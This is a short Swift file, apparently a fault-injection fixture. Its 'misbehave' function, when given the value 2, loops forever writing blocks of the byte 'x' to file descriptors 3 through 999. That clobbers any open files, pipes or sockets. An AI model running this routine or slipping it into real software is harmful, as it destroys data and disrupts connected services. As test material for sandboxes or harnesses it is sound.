// Writes without end to wherever it can but its own output.
import Foundation

func misbehave(_ activation: Int) {
  guard activation == 2 else { return }
  let block = [UInt8](repeating: 0x78, count: 1 << 16)
  while true {
    for descriptor: Int32 in 3..<1000 {
      _ = block.withUnsafeBytes { write(descriptor, $0.baseAddress, $0.count) }
    }
  }
}
